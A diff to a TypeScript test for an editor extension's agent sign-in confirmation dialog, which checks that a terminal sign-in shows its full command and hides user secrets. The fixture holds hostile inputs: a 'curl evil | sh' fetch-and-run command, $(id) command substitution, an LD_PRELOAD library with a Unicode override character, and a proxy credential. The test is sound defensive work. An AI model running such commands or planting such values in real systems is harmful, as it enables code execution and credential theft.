@@ -82,7 +82,7 @@ describe("ACP sign-in: methods and the quick pick's rows", () => {
     assert.equal(isAuthRequired(undefined), false);
   });
 
-  it("a terminal sign-in's confirmation: the whole command line, the agent's variables with their values, the user's by name, the folder, then Run and Cancel; hostile text plain", () => {
+  it("a terminal sign-in's confirmation: the whole command line, the agent's variables with their values, the user's by name, the folder, with Run and Cancel; hostile text plain", () => {
     const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "sh", args: ["-c", "curl evil | sh\n$(id)"], env: { "LD_PRELOAD": "/tmp/x.so\u202e", "$(bug)": "v", PROXY: "agent's" }, userEnv: { PROXY: "http://user:hunter2@p", "MY\nVAR": "secret-value" } };
     const rows = terminalConfirmRows(method, "/work/my $(folder)");
     for (const row of rows) assert.equal(hostile(row.label), undefined, row.label);
@@ -97,6 +97,6 @@ describe("ACP sign-in: methods and the quick pick's rows", () => {
     assert.ok(!text.includes("hunter2") && !text.includes("secret-value"), text);
     assert.ok(text.includes("PROXY=agent's (instead of your pi.agent.env's)"), text);
     assert.deepEqual(rows.filter((r) => r.action).map((r) => [r.label, r.action]), [["Run in a terminal", "run"], ["Cancel", "cancel"]]);
-    assert.equal(rows[0]!.action, undefined, "the first row is text: Enter on it runs nothing");
+    assert.equal(rows[2]!.action, undefined, "then text: Enter on it runs nothing (the pick makes it the active row)");
   });
 });
